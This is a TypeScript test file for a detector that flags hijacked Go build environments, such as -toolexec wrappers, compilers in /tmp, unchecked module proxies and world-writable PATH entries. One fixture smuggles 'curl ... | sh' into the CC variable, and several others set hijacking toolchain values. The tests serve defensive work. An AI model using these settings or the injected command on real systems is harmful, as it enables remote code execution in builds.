import type { SettingPrograms } from '../../../agent/contract/sections/setting-programs.ts'
import { goEnvHijackSuspect } from '../../../agent/detectors/go-env-hijack-suspect.ts'
import { fileInfo, profileLine } from '../../support/snapshot.ts'
import { vscode } from '../../support/projects.ts'
import { detectorTest } from './detector-test.ts'

type Program = SettingPrograms['list'][number]
const program = (name: string, file: string, words: Partial<Program> = {}) => ({
  settingPrograms: {
    list: [{ name, value: file, file, exists: true, volume: 'fixed' as const, temporary: false, ...words }],
  },
})
const SDK = { installs: [{ root: '/usr/local/go' }] }

detectorTest(goEnvHijackSuspect, {
  fires: [
    {
      name: 'the same on a build agent is the build’s',
      role: 'ci',
      goEnvFile: { GOFLAGS: '-toolexec=/home/<u1>/.cache/x' },
      subject: 'GOFLAGS',
      layer: 'ci',
    },
    {
      name: '-toolexec of an unknown program',
      goEnvFile: { GOFLAGS: '-trimpath -toolexec=/home/<u1>/.cache/x' },
      subject: 'GOFLAGS',
      severity: 'critical',
      evidence: { case: 'flag-runs-program', hijackPart: '-toolexec=/home/<u1>/.cache/x' },
      says: /makes every build or test run another program/,
    },
    {
      name: '-exec in the editor',
      has: { editor: vscode({ 'go.toolsEnvVars.GOFLAGS': '"-exec=/opt/x/run -q"' }) },
      subject: 'go.toolsEnvVars.GOFLAGS',
    },
    {
      name: 'a cache program in /tmp',
      variables: { GOCACHEPROG: '/tmp/helper' },
      has: program('GOCACHEPROG', '/tmp/helper', { temporary: true }),
      subject: 'GOCACHEPROG',
      evidence: { case: 'program-in-temporary' },
    },
    {
      name: 'a compiler of a well-known name in /tmp',
      variables: { CC: '/tmp/gcc' },
      has: program('CC', '/tmp/gcc', { temporary: true }),
      subject: 'CC',
      severity: 'critical',
    },
    {
      name: 'a wrapper of a well-known name in /tmp',
      variables: { GOFLAGS: '-toolexec=/tmp/garble' },
      subject: 'GOFLAGS',
    },
    {
      name: 'an SDK that was unpacked in the folder for downloads',
      variables: { GOROOT: '/home/<u1>/Downloads/go' },
      has: program('GOROOT', '/home/<u1>/Downloads/go', { temporary: true }),
      subject: 'GOROOT',
      severity: 'medium',
    },
    {
      name: 'GOROOT on a share',
      kind: 'windows',
      has: program('GOROOT', '\\\\server\\tools\\go'),
      subject: 'GOROOT',
      evidence: { case: 'program-on-share' },
    },
    {
      name: 'a proxy that is not meant, and no checksums',
      variables: { GOPROXY: 'https://mods.example.net', GOSUMDB: 'off' },
      policy: { companyProxies: ['corp.example.com'] },
      subject: 'GOPROXY',
      evidence: { case: 'proxy-unchecked' },
    },
    {
      name: 'a command in a value',
      variables: { CC: 'gcc; curl https://x.example.net/i | sh' },
      subject: 'CC',
      evidence: { case: 'value-runs-command' },
    },
    {
      name: 'a directory for everybody in front of the SDK',
      ...SDK,
      path: [
        { dir: '/srv/shared', is: { writableByOthers: true, bins: { git: fileInfo('/srv/shared/git') } } },
        '/usr/local/go/bin',
      ],
      subject: 'PATH',
      severity: 'critical',
      evidence: { case: 'path-writable' },
    },
    {
      name: 'the current directory first',
      ...SDK,
      path: [{ dir: '.', raw: '.' }, '/usr/local/go/bin'],
      subject: 'PATH',
      severity: 'medium',
    },
  ],
  silent: [
    {
      name: 'the module cache below a GOPATH with the line end of Windows',
      variables: { GOPATH: '/home/<u1>/work\r', GOMODCACHE: '/home/<u1>/work\r/pkg/mod' },
      origins: { GOMODCACHE: profileLine('/home/<u1>/.bashrc', 3) },
    },
    {
      name: 'gcc of MSYS2 below the root of the drive, where Windows lets everybody write',
      kind: 'windows',
      installs: [{ root: 'C:\\Program Files\\Go' }],
      path: [
        {
          dir: 'C:\\msys64\\mingw64\\bin',
          is: { writableByOthers: true, bins: { gcc: fileInfo('C:\\msys64\\mingw64\\bin\\gcc.exe') } },
        },
        'C:\\Program Files\\Go\\bin',
      ],
    },
    { name: 'nothing set', ...SDK, path: ['/usr/local/go/bin'] },
    {
      name: 'a company proxy nobody listed, checksums off',
      variables: { GOPROXY: 'https://nexus.example.com/go|direct', GOSUMDB: 'off' },
    },
    {
      name: 'the company’s proxy',
      variables: { GOPROXY: 'https://go.corp.example.com', GOSUMDB: 'off' },
      policy: { companyProxies: ['corp.example.com'] },
    },
    {
      name: 'ccache in Debian’s /usr/local/bin, which its staff may write to',
      variables: { CC: 'ccache gcc' },
      has: program('CC', '/usr/local/bin/ccache', { dir: '/usr/local/bin', dirWritableByOthers: true }),
    },
    {
      name: 'a well-known cache program unpacked by the job',
      variables: { GOCACHEPROG: '/tmp/bin/go-cacher --quiet' },
      has: program('GOCACHEPROG', '/tmp/bin/go-cacher', { temporary: true }),
    },
    {
      name: 'several commands in GOAUTH, & in flags, R&D in a path',
      kind: 'windows',
      variables: { GOAUTH: 'netrc; git', GOFLAGS: '-ldflags=-X=main.a=b&c', GOPATH: 'C:\\R&D\\go;D:\\go' },
    },
    { name: 'a known wrapper', variables: { GOFLAGS: "'-toolexec=orchestrion toolexec'" } },
    {
      name: 'an allowed wrapper',
      variables: { GOFLAGS: '-toolexec=/opt/acme/wrap' },
      policy: { allowedToolexec: ['wrap'] },
    },
    {
      name: 'the tool cache of a runner is writable for all',
      role: 'ci',
      installs: [
        { root: '/opt/hostedtoolcache/go/1.25.1/x64', source: 'hostedtoolcache', version: 'go1.25.1' },
      ],
      path: [{ dir: '/opt/hostedtoolcache/go/1.25.1/x64/bin', is: { writableByOthers: true } }],
      has: program('GOROOT', '/opt/hostedtoolcache/go/1.25.1/x64', { dirWritableByOthers: true }),
    },
    {
      name: 'an old MSI in C:\\Go, where every user may write',
      kind: 'windows',
      installs: [{ root: 'C:\\Go', source: 'msi' }],
      path: [{ dir: 'C:\\Go\\bin', is: { writableByOthers: true } }],
      has: program('GOROOT', 'C:\\Go', { dirWritableByOthers: true }),
    },
    {
      name: 'the current directory behind the SDK',
      ...SDK,
      path: ['/usr/local/go/bin', { dir: '.', raw: '.' }],
    },
    { name: 'a mistake, no attack', variables: { GOBIN: '$(go env GOPATH)/bin' } },
    { name: 'rules for version control', variables: { GOVCS: 'public:git|hg,private:all' } },
  ],
})
